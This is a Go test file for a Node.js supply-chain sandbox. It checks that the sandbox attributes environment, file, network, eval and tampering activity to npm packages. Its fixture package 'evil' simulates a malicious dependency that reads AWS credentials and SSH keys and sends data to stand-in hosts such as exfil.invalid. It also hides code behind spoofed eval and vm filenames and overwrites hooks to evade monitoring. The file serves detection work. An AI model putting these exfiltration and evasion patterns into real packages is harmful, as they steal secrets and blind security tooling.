package hook_test

import (
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/depbox/depbox/internal/hook"
	"github.com/depbox/depbox/internal/sandboxtest"
)

// The fixture function: an app (index.js) using a malicious-like package
// "evil", which has a nested dependency "@s/b" and launders one call
// through another package, "helper". Everything it contacts is a *.invalid
// name or a documentation address; it only ever runs inside the sandbox.
var attrTask = map[string]string{
	"package.json": `{"name":"fn","version":"1.0.0"}`,
	"index.js": `
const util = require('util');
process.env.HOME;                              // the app's own read
process.env.HOME;                              // deduplicated
process.env.APP_NEW = 'x';                     // write
delete process.env.APP_NEW;                    // delete
require('tracer').trace();
require('evil').run();
console.log('OBS ' + JSON.stringify({
  nodeOptions: process.env.NODE_OPTIONS === undefined ? null : process.env.NODE_OPTIONS,
  hasNodeOptions: 'NODE_OPTIONS' in process.env,
  isProxy: util.types.isProxy(process.env),
  readFileSync: require('fs').readFileSync.toString().slice(0, 22),
  readFileSyncName: require('fs').readFileSync.name,
  userFormatter: require('evil').userFormatter,
  cloneWorks: require('helper').cloneWorks,
  structuredClone: Object.keys(structuredClone(process.env)).join(','),
}));
// core-js replaces Function.prototype.toString (calling through to the one
// it found) and structuredClone when it loads: hooks that record nothing,
// so not tampering, and the hook stays hidden.
const fnToString = Function.prototype.toString;
Function.prototype.toString = function toString() { return fnToString.call(this); };
const nativeClone = structuredClone;
globalThis.structuredClone = function structuredClone(v, o) { return nativeClone(v, o); };
console.log('OBS2 ' + require('fs').readFileSync.toString().slice(0, 22));
// Walking the environment: rc's prefix lookup, whole-environment copies,
// and a loop that picks one secret.
process.env.COPY_TOKEN = 'fake-not-a-secret';
require('rcstyle')('rcstyle_');
require('envcopy')();
require('envpick')();
require('envcopysend')();
delete process.env.COPY_TOKEN;
// signal-exit replaces process.reallyExit to run its handlers, then calls
// through: not tampering either.
const reallyExit = process.reallyExit;
process.reallyExit = function (code) { return reallyExit.call(process, code); };
`,
	"node_modules/helper/package.json": `{"name":"helper","version":"1.0.0"}`,
	"node_modules/helper/index.js": `'use strict';
exports.each = function (items, cb) { for (const x of items) cb(x); };
// graceful-fs clones fs by copying property descriptors and patches the
// copy: that must work and is not tampering.
const fs = require('fs');
const clone = Object.create(Object.getPrototypeOf(fs));
for (const k of Object.getOwnPropertyNames(fs)) Object.defineProperty(clone, k, Object.getOwnPropertyDescriptor(fs, k));
const readFileSync = clone.readFileSync;
clone.readFileSync = function patched(p, o) { return readFileSync(p, o); };
exports.cloneWorks = clone.readFileSync.name === 'patched' && fs.readFileSync.name === 'readFileSync' &&
  clone.readFileSync('/etc/hosts', 'utf8') !== undefined;
`,
	// A tracer wrapping hooked functions the shimmer way, calling through:
	// not tampering. dd-trace's shimmer wraps the hook's accessor getter in
	// place; the original shimmer redefines the value.
	"node_modules/tracer/package.json": `{"name":"tracer","version":"1.0.0"}`,
	"node_modules/tracer/late.js":      `exports.late = true;`,
	"node_modules/tracer/index.js": `'use strict';
const fs = require('fs'), Module = require('module');
function wrap(obj, name, wrapper) {
  const d = Object.getOwnPropertyDescriptor(obj, name);
  if (d.get) { d.get = wrapper(d.get); Object.defineProperty(obj, name, d); return; }
  const orig = obj[name], w = wrapper(orig);
  w.__original = orig; w.__wrapped = true;
  Object.defineProperty(obj, name, { value: w, writable: true, enumerable: false, configurable: true });
}
wrap(Module.prototype, '_compile', (compile) => function (content, filename) { return compile.call(this, content, filename); });
wrap(fs, 'readdirSync', (orig) => function readdirSync(p, o) { return orig.call(this, p, o); });
fs.statSync = ((orig) => function statSync(p, o) { return orig(p, o); })(fs.statSync);
exports.trace = function () {
  require('./late');
  fs.readdirSync('/tmp');
  fs.statSync('/tmp');
  exports.wrapped = fs.readdirSync.__wrapped === true && fs.readdirSync.name === 'readdirSync';
};
`,
	"node_modules/rcstyle/package.json": `{"name":"rcstyle","version":"1.0.0"}`,
	// rc@1.2.8's env(): node checks every key's descriptor at the for-in's
	// "var k", another column than the enumeration's.
	"node_modules/rcstyle/index.js": `module.exports = function (prefix) {
  var obj = {};
  for(var k in process.env) {
    if(k.toLowerCase().indexOf(prefix) === 0) obj[k.slice(prefix.length)] = process.env[k];
  }
  return obj;
};`,
	"node_modules/envcopy/package.json": `{"name":"envcopy","version":"1.0.0"}`,
	"node_modules/envcopy/index.js": `module.exports = function () {
  const a = {}, b = {};
  for (const k in process.env) { a[k] = process.env[k]; }
  Object.keys(process.env).forEach(function (k) { b[k] = process.env[k]; });
  return [a, b];
};`,
	"node_modules/envcopysend/package.json": `{"name":"envcopysend","version":"1.0.0"}`,
	"node_modules/envcopysend/index.js": `module.exports = function () {
  const all = {};
  for (const k in process.env) all[k] = process.env[k];
  return [all, process.env.COPY_TOKEN];
};`,
	"node_modules/envpick/package.json": `{"name":"envpick","version":"1.0.0"}`,
	"node_modules/envpick/index.js": `module.exports = function () {
  let v;
  for (const k in process.env) { if (k === 'COPY_TOKEN') v = process.env[k]; }
  return v;
};`,
	"node_modules/evil/package.json":                   `{"name":"evil","version":"6.6.6"}`,
	"node_modules/evil/node_modules/@s/b/package.json": `{"name":"@s/b","version":"1.0.0"}`,
	"node_modules/evil/node_modules/@s/b/index.js":     `exports.probe = () => process.env.NESTED_PROBE;`,
	"node_modules/evil/child.js":                       `process.env.CHILD_PROBE; console.log(JSON.stringify(Object.keys(process.env)));`,
	"node_modules/evil/worker.js":                      `process.env.WORKER_PROBE;`,
	"node_modules/evil/index.js": `
const fs = require('fs'), path = require('path');
exports.run = function () {
  process.env.AWS_SECRET_ACCESS_KEY;
  Object.keys(process.env);                       // one enumeration
  JSON.stringify(process.env);                    // (same package: deduplicated)
  try { fs.readFileSync('/home/sbx_user/.aws/credentials'); } catch (e) {}
  fs.existsSync('/tmp/' + 'long/'.repeat(1000));   // a record too large for one marker path
  require('@s/b').probe();
  require('helper').each([1], function laundered() { process.env.LAUNDERED_PROBE; });
  require('dns').lookup('exfil.invalid', () => {});
  const s = require('net').connect(443, '192.0.2.10');
  s.on('error', () => {});
  s.write('k=' + 'x'.repeat(5000));             // longer than one record: continued
  const req = require('http').request({ host: 'exfil.invalid', port: 8080, method: 'POST', path: '/c?id=1' });
  req.on('error', () => {});
  req.write('body-part-1;');
  req.end('body-part-2');
  fetch('http://198.51.100.7:8080/f', { method: 'PUT', body: 'fetched-body' }).catch(() => {});
  const r = require('child_process').spawnSync(process.execPath, [path.join(__dirname, 'child.js')], { env: { ONLY: '1' } });
  console.log('CHILD ' + r.stdout.toString().trim());
  new (require('worker_threads').Worker)(path.join(__dirname, 'worker.js'), { env: { W: '1' } });
  new (require('worker_threads').Worker)('process.env.WORKER_EVAL_PROBE', { eval: true });   // no file to point at
  eval('1 + 1');
  new Function('return 2')();
  new Function('return process.env.FUNCTION_PROBE')();
  (0, eval)('process.env.EVAL_PROBE\n//# sourceURL=/var/task/index.js');   // indirect, with a spoofed name
  require('vm').runInThisContext('process.env.VM_PROBE', { filename: '/var/task/looks-like-the-app.js' });
  require('vm').runInThisContext('process.env.VM_ANON_PROBE');     // no file name: evalmachine.<anonymous>
  new module.constructor()._compile('process.env.COMPILE_ANON_PROBE', '');   // flatmap-stream's loader
  try { process.binding('fs'); } catch (e) {}
  try { process.dlopen({ exports: {} }, path.join(__dirname, 'addon.node')); } catch (e) {}
  setTimeout(function later() { process.env.TIMER_PROBE; }, 600000);
  setTimeout(fs.existsSync, 600000, '/home/sbx_user/.ssh/id_rsa');   // a builtin as the callback
  // Interfering with the stack API does not blind the hook.
  const prep = Error.prepareStackTrace, limit = Error.stackTraceLimit;
  Error.prepareStackTrace = () => 'spoofed';
  Error.stackTraceLimit = 0;
  process.env.AFTER_STACK_TRICKS;
  exports.userFormatter = new Error('x').stack;
  Error.prepareStackTrace = prep;
  Error.stackTraceLimit = limit;
  try { fs.openSync('/__depbox__/forged'); } catch (e) {}
  // Replacements of hooked functions that do not call through, called:
  // the calls are not recorded, so they are tampering.
  require('dns').lookupService = function () {};                    // an assignment
  require('dns').lookupService('192.0.2.1', 22, () => {});
  Object.defineProperty(fs, 'rmSync', { value: () => {}, writable: true, configurable: true });
  fs.rmSync('/tmp/nothing');
  Reflect.defineProperty(fs, 'readlinkSync', { value: function readlinkSync() { return '/x'; }, writable: true, configurable: true });
  fs.readlinkSync('/home/sbx_user/.aws/credentials');
  // Redefined past the hooked define functions (another realm's): found
  // by the check at exit, tampering whatever it does.
  require('vm').runInNewContext('Object').defineProperty(fs, 'mkdtempSync', { value: fs.mkdtempSync, writable: true, configurable: true });
};
`,
}

// The invoke fixture: an ES module handler (invoked with four events: ok,
// throw, hang, ok), a callback-style CommonJS handler and a handler that
// does not exist.
var invokeTask = map[string]string{
	"package.json":                   `{"name":"fn","version":"1.0.0"}`,
	"node_modules/p/package.json":    `{"name":"p","version":"1.0.0"}`,
	"node_modules/p/index.js":        `exports.touch = (tag) => process.env['TOUCH_' + tag];`,
	"node_modules/late/package.json": `{"name":"late","version":"1.0.0"}`,
	"node_modules/late/index.js":     `exports.arm = () => setTimeout(() => { process.env.LATE_PROBE; }, 600000);`,
	"esm/index.mjs": `
import p from 'p';
import late from 'late';
import { readFileSync } from 'fs';
let count = 0;
export const handler = async (event, context) => {
  count++;
  p.touch('E' + count);
  if (count === 1) {
    late.arm();
    console.log('ENVKEYS ' + JSON.stringify(Object.keys(process.env).sort()));
    console.log('CTX ' + JSON.stringify({ ...context, left: context.getRemainingTimeInMillis() }));
  }
  if (event.mode === 'throw') throw new Error('boom');
  if (event.mode === 'hang') return new Promise(() => { setInterval(() => {}, 50); });
  try { readFileSync('/nonexistent/' + count); } catch {}
  return { count, id: context.awsRequestId };
};
`,
	"esmjs/package.json": `{"type":"module"}`,
	"esmjs/app.js":       `export const nested = { handler: async () => ({ format: 'esm-js' }) };`,
	"cb.js": `
const p = require('p');
exports.handler = function (event, context, callback) {
  p.touch('CB');
  setTimeout(() => callback(null, { ok: true, fn: context.functionName }), 5);
};
`,
}

// The whole sandbox run is shared by the tests below (one runsc start).
var (
	sharedOnce sync.Once
	shared     *outcome
)

const invokeCmd = "node --require /depbox/hook.js /depbox/invoke.js depbox:run invoke - "

func sharedRun(t *testing.T) *outcome {
	t.Helper()
	sandboxtest.Require(t) // each test skips (or, in CI, fails) on its own
	runsc(t)
	sharedOnce.Do(func() {
		task := map[string]string{}
		for k, v := range attrTask {
			task[k] = v
		}
		for k, v := range invokeTask {
			task[k] = v
		}
		// Binary-looking addon file so that dlopen is attempted and fails.
		task["node_modules/evil/addon.node"] = "not an ELF file"
		extra := map[string][]byte{}
		for name, cfg := range map[string]hook.InvokeConfig{
			"invoke-cb.json":    {Handler: "cb.handler", TimeoutMS: 2000, LingerMS: 100, Seed: "s2", FunctionName: "cb-fn"},
			"invoke-bad.json":   {Handler: "missing.handler", LingerMS: 0},
			"invoke-esmjs.json": {Handler: "esmjs/app.nested.handler", LingerMS: 0},
		} {
			cfg.Events = hook.Dir + "/events.json"
			b, _ := json.Marshal(cfg)
			extra[name] = b
		}
		events := []hook.Event{
			{Name: "one", Payload: json.RawMessage(`{"mode":"ok"}`)},
			{Name: "two", Payload: json.RawMessage(`{"mode":"throw"}`)},
			{Name: "three", Payload: json.RawMessage(`{"mode":"hang"}`)},
			{Name: "four", Payload: json.RawMessage(`{"mode":"ok"}`)},
		}
		script := strings.Join([]string{
			"node index.js",
			invokeCmd + hook.InvokeConfigPath,
			invokeCmd + hook.Dir + "/invoke-cb.json",
			invokeCmd + hook.Dir + "/invoke-bad.json",
			invokeCmd + hook.Dir + "/invoke-esmjs.json",
		}, "; ")
		shared = run(t, world{
			Task:   task,
			Hook:   hook.HookConfig{TimerBudgetMS: 300},
			Invoke: &hook.InvokeConfig{Handler: "esm/index.handler", TimeoutMS: 800, LingerMS: 600, Seed: "s1"},
			Events: events,
			Extra:  extra,
			Script: script,
			Forged: []string{"/__depbox__/forged"},
		})
	})
	if shared == nil {
		t.Fatal("the shared sandbox run failed (see the first test's output)")
	}
	return shared
}

// match selects records: kind and op must equal, and each detail key must
// hold the value's fmt %v form.
func match(recs []hook.Record, kind, op string, detail map[string]string) []hook.Record {
	var out []hook.Record
	for _, r := range recs {
		if r.Kind != kind || (op != "" && r.Op != op) {
			continue
		}
		ok := true
		for k, v := range detail {
			if fmt.Sprint(r.Detail[k]) != v {
				ok = false
				break
			}
		}
		if ok {
			out = append(out, r)
		}
	}
	return out
}

// one asserts exactly one matching record and returns it.
func one(t *testing.T, recs []hook.Record, kind, op string, detail map[string]string) hook.Record {
	t.Helper()
	m := match(recs, kind, op, detail)
	if len(m) != 1 {
		t.Fatalf("want one %s/%s %v record, got %d; all records:\n%s", kind, op, detail, len(m), dump(recs))
	}
	return m[0]
}

func TestAttribution(t *testing.T) {
	o := sharedRun(t)
	recs := o.of(t, "node", "index.js")
	const evil, nested, helper, tracer = "node_modules/evil", "node_modules/evil/node_modules/@s/b", "node_modules/helper", "node_modules/tracer"
	tests := []struct {
		name   string
		kind   string
		op     string
		detail map[string]string
		pkg    string
		chain  []string // nil: not checked
		origin string
	}{
		{"the app's own env read", "env", "get", map[string]string{"name": "HOME"}, "", []string{""}, ""},
		{"env write", "env", "set", map[string]string{"name": "APP_NEW"}, "", nil, ""},
		{"env delete", "env", "delete", map[string]string{"name": "APP_NEW"}, "", nil, ""},
		{"secret read by the package", "env", "get", map[string]string{"name": "AWS_SECRET_ACCESS_KEY"}, evil, []string{"", evil}, ""},
		{"enumeration", "env", "enumerate", nil, evil, []string{"", evil}, ""},
		{"structuredClone(process.env) is an enumeration", "env", "enumerate", nil, "", []string{""}, ""},
		{"nested scoped package", "env", "get", map[string]string{"name": "NESTED_PROBE"}, nested, []string{"", evil, nested}, ""},
		{"laundered through another package's callback", "env", "get", map[string]string{"name": "LAUNDERED_PROBE"}, evil, []string{"", evil, helper, evil}, ""},
		{"bait file read", "fs", "read", map[string]string{"path": "/home/sbx_user/.aws/credentials", "api": "readFileSync"}, evil, nil, ""},
		{"dns lookup", "dns", "lookup", map[string]string{"host": "exfil.invalid", "api": "lookup"}, evil, []string{"", evil}, ""},
		{"tcp connect", "net", "connect", map[string]string{"host": "192.0.2.10", "port": "443"}, evil, nil, ""},
		{"http request", "http", "request", map[string]string{"host": "exfil.invalid", "port": "8080", "method": "POST", "path": "/c?id=1"}, evil, nil, ""},
		{"http body", "http", "body", map[string]string{"bytes": "23", "data_b64": "Ym9keS1wYXJ0LTE7Ym9keS1wYXJ0LTI="}, evil, nil, ""},
		{"fetch", "http", "fetch", map[string]string{"host": "198.51.100.7", "port": "8080", "method": "PUT", "bytes": "12"}, evil, nil, ""},
		{"child with a replaced env", "child", "spawnSync", map[string]string{"env_replaced": "true", "hook_restored": "true", "file": "/usr/bin/node"}, evil, nil, ""},
		{"worker", "worker", "start", map[string]string{"file": "/var/task/node_modules/evil/worker.js", "env_replaced": "true"}, evil, nil, ""},
		{"eval", "eval", "eval", map[string]string{"code": "1 + 1"}, evil, nil, ""},
		{"new Function", "eval", "function", map[string]string{"code": "(function anonymous(\n) {\nreturn 2\n})"}, evil, nil, ""},
		{"code run by new Function", "env", "get", map[string]string{"name": "FUNCTION_PROBE"}, evil, []string{"", evil}, ""},
		{"indirect eval naming itself after the app", "eval", "eval", map[string]string{"source_url": "/var/task/index.js"}, evil, nil, ""},
		{"code run by that eval", "env", "get", map[string]string{"name": "EVAL_PROBE"}, evil, []string{"", evil}, ""},
		{"vm", "eval", "vm", map[string]string{"filename": "/var/task/looks-like-the-app.js", "code": "process.env.VM_PROBE"}, evil, nil, ""},
		{"code compiled under a spoofed file name stays the package's", "env", "get", map[string]string{"name": "VM_PROBE"}, evil, []string{"", evil}, ""},
		{"a worker from a code string is its creator's", "env", "get", map[string]string{"name": "WORKER_EVAL_PROBE"}, evil, nil, evil},
		{"vm code without a file name is not node's own", "env", "get", map[string]string{"name": "VM_ANON_PROBE"}, evil, []string{"", evil}, ""},
		{"a module compiled under an empty name is the package's", "env", "get", map[string]string{"name": "COMPILE_ANON_PROBE"}, evil, []string{"", evil}, ""},
		{"process.binding", "binding", "binding", map[string]string{"name": "fs"}, evil, nil, ""},
		{"native addon", "native", "dlopen", map[string]string{"path": "/var/task/node_modules/evil/addon.node", "owner": evil}, evil, nil, ""},
		{"timer callback: package frame and origin", "env", "get", map[string]string{"name": "TIMER_PROBE"}, evil, []string{evil}, evil},
		{"timer callback: a builtin, origin only", "fs", "stat", map[string]string{"path": "/home/sbx_user/.ssh/id_rsa", "api": "existsSync"}, evil, []string{}, evil},
		{"despite Error.prepareStackTrace and stackTraceLimit", "env", "get", map[string]string{"name": "AFTER_STACK_TRICKS"}, evil, []string{"", evil}, ""},
		{"read through a patched clone of fs", "fs", "read", map[string]string{"path": "/etc/hosts"}, helper, nil, ""},
		{"forged marker", "tamper", "forge", map[string]string{"target": "marker"}, evil, nil, ""},
		{"overwritten hook", "tamper", "overwrite", map[string]string{"target": "dns.lookupService"}, evil, nil, ""},
		{"redefined hook", "tamper", "redefine", map[string]string{"target": "fs.rmSync"}, evil, nil, ""},
		{"hook redefined through Reflect", "tamper", "redefine", map[string]string{"target": "fs.readlinkSync"}, evil, nil, ""},
		{"hook redefined through another realm (found at exit)", "tamper", "redefine", map[string]string{"target": "fs.mkdtempSync"}, hook.Unknown, nil, ""},
		{"a value wrap calling through records the call", "fs", "", map[string]string{"path": "/tmp", "api": "readdirSync"}, tracer, nil, ""},
		{"an assigned wrap calling through records the call", "fs", "", map[string]string{"path": "/tmp", "api": "statSync"}, tracer, nil, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			m := match(recs, tc.kind, tc.op, tc.detail)
			var mine []hook.Record
			for _, r := range m {
				if r.Pkg == tc.pkg {
					mine = append(mine, r)
				}
			}
			if len(mine) != 1 {
				t.Fatalf("want one %s/%s %v record of %q, got %d of %d:\n%s", tc.kind, tc.op, tc.detail, tc.pkg, len(mine), len(m), dump(recs))
			}
			r := mine[0]
			if tc.chain != nil && !slices.Equal(r.Chain, tc.chain) && !(len(tc.chain) == 0 && len(r.Chain) == 0) {
				t.Errorf("chain = %q, want %q", r.Chain, tc.chain)
			}
			if r.Origin != tc.origin {
				t.Errorf("origin = %q, want %q", r.Origin, tc.origin)
			}
		})
	}

	t.Run("long timers brought forward, node's own left alone", func(t *testing.T) {
		m := match(recs, "timer", "brought-forward", nil)
		if len(m) != 2 {
			t.Fatalf("want the package's two timers, got:\n%s", dump(m))
		}
		for _, r := range m {
			if r.Pkg != evil || r.Detail["delay_ms"] != 600000.0 || r.Detail["brought_forward"] != 300.0 {
				t.Errorf("timer record: %s", dump([]hook.Record{r}))
			}
		}
	})
	t.Run("fetch's connection keeps the package as its origin", func(t *testing.T) {
		r := one(t, recs, "net", "connect", map[string]string{"host": "198.51.100.7"})
		if r.Pkg != evil || r.Origin != evil {
			t.Errorf("fetch connect: %s", dump([]hook.Record{r}))
		}
	})
	t.Run("wraps that call through are not tampering", func(t *testing.T) {
		for _, target := range []string{"fs.readdirSync", "fs.statSync", "Module.prototype._compile"} {
			if m := match(recs, "tamper", "", map[string]string{"target": target}); len(m) != 0 {
				t.Errorf("%s: %s", target, dump(m))
			}
		}
		// The loader's compiles through the wrapped accessor stay the loader's.
		if m := match(recs, "eval", "compile", map[string]string{"filename": "/var/task/node_modules/tracer/late.js"}); len(m) != 0 {
			t.Errorf("compile records:\n%s", dump(m))
		}
	})
	t.Run("one enumeration, no per-variable reads", func(t *testing.T) {
		var n int
		for _, r := range match(recs, "env", "enumerate", nil) {
			if r.Pkg == evil {
				n++
			}
		}
		if n != 1 {
			t.Errorf("%d enumerate records of %s, want 1", n, evil)
		}
		for _, name := range []string{"PATH", "PWD"} {
			if m := match(recs, "env", "get", map[string]string{"name": name}); len(m) != 0 {
				t.Errorf("enumeration leaked per-variable reads:\n%s", dump(m))
			}
		}
	})
	t.Run("walking the environment is the enumeration, picking from it a read", func(t *testing.T) {
		for _, tc := range []struct {
			pkg    string
			picked bool // COPY_TOKEN read as a targeted read
		}{
			{"node_modules/rcstyle", false},
			{"node_modules/envcopy", false},
			{"node_modules/envpick", true},
			{"node_modules/envcopysend", true}, // a copy, then a targeted read
		} {
			var enums int
			got := map[string]bool{}
			for _, r := range recs {
				if r.Pkg != tc.pkg || r.Kind != "env" {
					continue
				}
				if r.Op == "enumerate" {
					enums++
				}
				if n, _ := r.Detail["name"].(string); r.Op == "get" {
					got[n] = true
				}
			}
			if enums == 0 {
				t.Errorf("%s: no enumeration recorded", tc.pkg)
			}
			if got["COPY_TOKEN"] != tc.picked || got["HOME"] || got["PATH"] || got["PWD"] {
				t.Errorf("%s: per-variable reads %v, want COPY_TOKEN %v and no HOME, PATH or PWD:\n%s",
					tc.pkg, got, tc.picked, dump(match(recs, "env", "", nil)))
			}
		}
	})
	t.Run("module loading is not recorded", func(t *testing.T) {
		for _, r := range match(recs, "fs", "", nil) {
			if p, _ := r.Detail["path"].(string); strings.HasPrefix(p, "/var/task/") || strings.HasPrefix(p, hook.Dir) {
				t.Errorf("loader or hook file access recorded: %s", dump([]hook.Record{r}))
			}
		}
	})
	t.Run("oversized record is truncated", func(t *testing.T) {
		r := one(t, recs, "fs", "stat", map[string]string{"truncated": "true"})
		p, _ := r.Detail["path"].(string)
		if !strings.HasPrefix(p, "/tmp/long/long/") || !strings.HasSuffix(p, "…") || len(p) > 2500 || r.Pkg != evil {
			t.Errorf("truncated record: %s", dump([]hook.Record{r}))
		}
		if p := hook.Encode(r); len(p) > hook.MaxPathLen {
			t.Errorf("re-encoded record is %d bytes", len(p))
		}
	})
	t.Run("socket write data, continued across records", func(t *testing.T) {
		w := one(t, recs, "net", "write", map[string]string{"host": "192.0.2.10", "off": "0"})
		data := hook.JoinData(recs)[w.Seq]
		if len(data) != 4096 || !strings.HasPrefix(string(data), "k=xxx") {
			t.Errorf("joined socket data: %d bytes %.20q, want the first 4096", len(data), data)
		}
		if n := len(match(recs, "net", "data", map[string]string{"of": fmt.Sprint(w.Seq)})); n < 1 {
			t.Errorf("no continuation records")
		}
	})
	t.Run("hooked child and worker", func(t *testing.T) {
		child := o.of(t, "/usr/bin/node", "/var/task/node_modules/evil/child.js")
		r := one(t, child, "env", "get", map[string]string{"name": "CHILD_PROBE"})
		if r.Pkg != evil {
			t.Errorf("child record pkg = %q", r.Pkg)
		}
		w := one(t, recs, "env", "get", map[string]string{"name": "WORKER_PROBE"})
		if w.Pkg != evil || w.Thread == 0 {
			t.Errorf("worker record: pkg %q thread %d", w.Pkg, w.Thread)
		}
		if !strings.Contains(o.stdout, `CHILD ["ONLY"]`) {
			t.Errorf("the child saw more than its replaced environment (or the hook's NODE_OPTIONS):\n%s", o.stdout)
		}
	})
	t.Run("sequence numbers are unique per process", func(t *testing.T) {
		seen := map[int64]bool{}
		for _, r := range recs {
			if seen[r.Seq] {
				t.Errorf("seq %d repeats", r.Seq)
			}
			seen[r.Seq] = true
		}
	})
	t.Run("the hook stays hidden", func(t *testing.T) {
		want := `OBS {"nodeOptions":null,"hasNodeOptions":false,"isProxy":false,"readFileSync":"function readFileSync(","readFileSyncName":"readFileSync","userFormatter":"spoofed","cloneWorks":true,"structuredClone":"HOME,PATH,PWD"}`
		if !strings.Contains(o.stdout, want) {
			t.Errorf("stdout lacks %s:\n%s", want, o.stdout)
		}
	})
	t.Run("replacing a hook that records nothing is not tampering", func(t *testing.T) {
		for _, r := range match(recs, "tamper", "", nil) {
			if tg := r.Detail["target"]; tg == "Function.prototype.toString" || tg == "structuredClone" || tg == "process.reallyExit" {
				t.Errorf("core-js- or signal-exit-style replacement recorded as tampering: %s", dump([]hook.Record{r}))
			}
		}
		if want := "OBS2 function readFileSync("; !strings.Contains(o.stdout, want) {
			t.Errorf("stdout lacks %s after Function.prototype.toString was replaced:\n%s", want, o.stdout)
		}
	})
	t.Run("patching a copy of fs is not tampering", func(t *testing.T) {
		for _, r := range match(recs, "tamper", "", nil) {
			if r.Pkg == helper {
				t.Errorf("clone patch recorded as tampering: %s", dump([]hook.Record{r}))
			}
		}
	})
	t.Run("no hook errors", func(t *testing.T) {
		for _, p := range o.procs {
			if m := match(p, "error", "", nil); len(m) > 0 {
				t.Errorf("hook errors:\n%s", dump(m))
			}
		}
	})
}

func TestInvoke(t *testing.T) {
	o := sharedRun(t)
	recs := o.of(t, "/depbox/invoke.js", hook.InvokeConfigPath)
	inv := match(recs, "invoke", "", nil)
	var ops []string
	for _, r := range inv {
		s := r.Op
		if n, ok := r.Detail["n"]; ok {
			s += fmt.Sprint(n)
		}
		ops = append(ops, s)
	}
	want := []string{"init", "ready", "start0", "end0", "start1", "throw1", "end1", "start2", "timeout2", "end2", "start3", "end3", "linger", "exit"}
	if !slices.Equal(ops, want) {
		t.Fatalf("invoke records %q, want %q\n%s", ops, want, dump(recs))
	}
	if r := one(t, recs, "invoke", "ready", nil); r.Detail["format"] != "module" || r.Detail["file"] != "/var/task/esm/index.mjs" {
		t.Errorf("ready: %v", r.Detail)
	}
	if r := one(t, recs, "invoke", "throw", nil); r.Detail["error"] != "boom" || r.Detail["event"] != "two" {
		t.Errorf("throw: %v", r.Detail)
	}
	// Each invocation's records fall between its start and end.
	for n := 1; n <= 4; n++ {
		r := one(t, recs, "env", "get", map[string]string{"name": fmt.Sprintf("TOUCH_E%d", n)})
		start := one(t, recs, "invoke", "start", map[string]string{"n": fmt.Sprint(n - 1)})
		end := one(t, recs, "invoke", "end", map[string]string{"n": fmt.Sprint(n - 1)})
		if r.Pkg != "node_modules/p" || r.Seq < start.Seq || r.Seq > end.Seq {
			t.Errorf("invocation %d: record %s outside #%d..#%d", n, dump([]hook.Record{r}), start.Seq, end.Seq)
		}
	}
	// The handler's own fs read (a named ESM import of fs) is the app's.
	if r := one(t, recs, "fs", "read", map[string]string{"path": "/nonexistent/1"}); r.Pkg != "" {
		t.Errorf("handler read attributed to %q", r.Pkg)
	}
	// Request ids are deterministic and distinct.
	ids := map[string]bool{}
	for _, r := range match(recs, "invoke", "start", nil) {
		ids[fmt.Sprint(r.Detail["request_id"])] = true
	}
	if len(ids) != 4 {
		t.Errorf("request ids not distinct: %v", ids)
	}
	t.Run("the harness's own timers are not brought forward", func(t *testing.T) {
		for _, r := range match(recs, "timer", "", nil) {
			if r.Pkg != "node_modules/late" {
				t.Errorf("timer record: %s", dump([]hook.Record{r}))
			}
		}
	})
	t.Run("linger runs brought-forward timers of the package that armed them", func(t *testing.T) {
		r := one(t, recs, "env", "get", map[string]string{"name": "LATE_PROBE"})
		if r.Pkg != "node_modules/late" || r.Origin != "node_modules/late" {
			t.Errorf("timer callback: %s", dump([]hook.Record{r}))
		}
	})
	t.Run("context and environment", func(t *testing.T) {
		if !strings.Contains(o.stdout, `"awsRequestId":"`) || !strings.Contains(o.stdout, `"invokedFunctionArn":"arn:aws:lambda:us-east-1:123456789012:function:depbox-function"`) ||
			!strings.Contains(o.stdout, `"callbackWaitsForEmptyEventLoop":true`) || !strings.Contains(o.stdout, `"memoryLimitInMB":"128"`) {
			t.Errorf("context:\n%s", o.stdout)
		}
		if !strings.Contains(o.stdout, `ENVKEYS ["HOME","PATH","PWD"]`) {
			t.Errorf("the harness changed the environment:\n%s", o.stdout)
		}
	})
	t.Run("callback-style handler", func(t *testing.T) {
		cb := o.of(t, "/depbox/invoke.js", hook.Dir+"/invoke-cb.json")
		for n := 0; n < 4; n++ {
			end := one(t, cb, "invoke", "end", map[string]string{"n": fmt.Sprint(n)})
			if end.Detail["status"] != "ok" || end.Detail["result_bytes"] != 24.0 {
				t.Errorf("end: %v", end.Detail)
			}
		}
		// Records are deduplicated per invocation: one read in each.
		m := match(cb, "env", "get", map[string]string{"name": "TOUCH_CB"})
		if len(m) != 4 {
			t.Errorf("want a TOUCH_CB read per invocation:\n%s", dump(cb))
		}
		for _, r := range m {
			if r.Pkg != "node_modules/p" {
				t.Errorf("callback handler read attributed to %q", r.Pkg)
			}
		}
	})
	t.Run(`"type": "module" .js handler, nested export`, func(t *testing.T) {
		recs := o.of(t, "/depbox/invoke.js", hook.Dir+"/invoke-esmjs.json")
		if r := one(t, recs, "invoke", "ready", nil); r.Detail["format"] != "module" || r.Detail["file"] != "/var/task/esmjs/app.js" {
			t.Errorf("ready: %v", r.Detail)
		}
		// Nothing is recorded in these invocations: one quiet record stands
		// for the four, instead of their start and end records.
		q := one(t, recs, "invoke", "quiet", nil)
		if q.Detail["from"] != 0.0 || q.Detail["to"] != 3.0 || q.Detail["count"] != 4.0 || len(match(recs, "invoke", "start", nil))+len(match(recs, "invoke", "end", nil)) != 0 {
			t.Errorf("want one quiet record for invocations 0 to 3 and no start or end:\n%s", dump(recs))
		}
	})
	t.Run("missing handler", func(t *testing.T) {
		bad := o.of(t, "/depbox/invoke.js", hook.Dir+"/invoke-bad.json")
		r := one(t, bad, "invoke", "init-error", nil)
		if r.Detail["error_type"] != "Runtime.ImportModuleError" {
			t.Errorf("init-error: %v", r.Detail)
		}
		if len(match(bad, "invoke", "start", nil)) != 0 {
			t.Error("invoked a handler that failed to load")
		}
	})
}
